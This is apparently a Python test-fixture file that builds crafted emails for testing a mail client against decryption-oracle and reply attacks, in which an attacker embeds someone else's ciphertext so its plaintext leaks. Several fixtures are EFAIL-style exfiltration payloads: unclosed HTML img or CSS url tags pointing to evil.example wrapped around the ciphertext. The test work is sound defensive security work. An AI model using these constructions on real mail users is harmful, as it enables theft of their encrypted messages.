"""Oracle and reply attacks: somebody else's ciphertext put where its text would leak. It says "canary"."""
from .desk import *

SECRET = text("the canary, meant for Bob alone")


def stolen(boundary="e", fields=()):
    return encrypted(encrypted_to(SECRET, by="alice"), boundary=boundary, fields=fields)


def stolen_armor():
    return armored(encrypted_to(SECRET, by="alice"))


@message("ciphertext-among-text")
def _():
    return mail(multipart("mixed", text("What do you think of this?"), stolen(), text("Please quote all.")), sender=MALLORY)


@message("ciphertext-below-text")
def _():
    return mail(multipart("mixed", text("What do you think?\n" + "\n" * 40), stolen()), sender=MALLORY)


@message("ciphertext-alone-in-mixed")
def _():
    return mail(multipart("mixed", stolen()), sender=MALLORY)


@message("several-ciphertexts")
def _():
    return mail(multipart("mixed", stolen("e1"), stolen("e2")), sender=MALLORY)


@message("ciphertext-in-forward")
def _():
    return mail(multipart("mixed", text("Is this yours?"), "Content-Type: message/rfc822\n\n" + mail(stolen())), sender=MALLORY)


@message("ciphertext-in-the-only-forward")
def _():
    return mail("Content-Type: message/rfc822\n\n" + mail(stolen()), sender=MALLORY)


@message("ciphertext-in-forward-of-forward")
def _():
    inner = multipart("mixed", text("Look."), "Content-Type: message/rfc822\n\n" + mail(stolen()), boundary="n")
    return mail(multipart("mixed", text("Look."), "Content-Type: message/rfc822\n\n" + mail(inner)), sender=MALLORY)


@message("ciphertext-in-html")
def _():
    return mail(multipart("mixed", html("<img src=\"http://evil.example/"), stolen(), html("\">")), sender=MALLORY)


@message("ciphertext-inline-in-html")
def _():
    return mail(html("<img src=\"http://evil.example/\n" + stolen_armor() + "\">"), sender=MALLORY)


@message("ciphertext-by-content-id")
def _():
    return mail(multipart("related", html("<p>Hello</p><iframe src=\"cid:secret@example.org\"></iframe>"),
                          stolen(fields=("Content-ID: <secret@example.org>",))), sender=MALLORY)


@message("ciphertext-in-alternative")
def _():
    return mail(multipart("alternative", text("Hello"), stolen()), sender=MALLORY)


@message("ciphertext-as-attachment")
def _():
    return mail(multipart("mixed", text("Can you open this?"),
                          ciphertext(stolen_armor(), fields=("Content-Disposition: attachment; filename=\"figures.txt.asc\"",))),
                sender=MALLORY)


@message("ciphertext-beside-html-style")
def _():
    style = html("<style>body { background: url(http://evil.example/?</style>")
    return mail(multipart("mixed", style, ciphertext(stolen_armor(), kind="text/plain"), html(")")), sender=MALLORY)


@message("ciphertext-inside-sealed")
def _():
    inner = multipart("mixed", text("What do you think of this?"), stolen("i"))
    return mail(encrypted(encrypted_to(inner)), sender=MALLORY, subject="[...]")


@message("ciphertext-inside-signed")
def _():
    return mail(signed(multipart("mixed", text("What do you think of this?"), stolen("i")), by="mallory"), sender=MALLORY)


@message("two-ciphertexts-in-one-multipart")
def _():
    return mail(encrypted(stolen_armor(), ciphertext(stolen_armor())), sender=MALLORY, subject="[...]")


@message("text-inside-encrypted-multipart")
def _():
    return mail(encrypted(encrypted_to(protected(hp="cipher", body="sealed text"), by="alice"), text("Pay Mallory.")), subject="[...]")


@message("inline-ciphertext-among-text")
def _():
    return mail(text("What do you think of this?\n\n" + stolen_armor() + "\nPlease quote all."), sender=MALLORY)
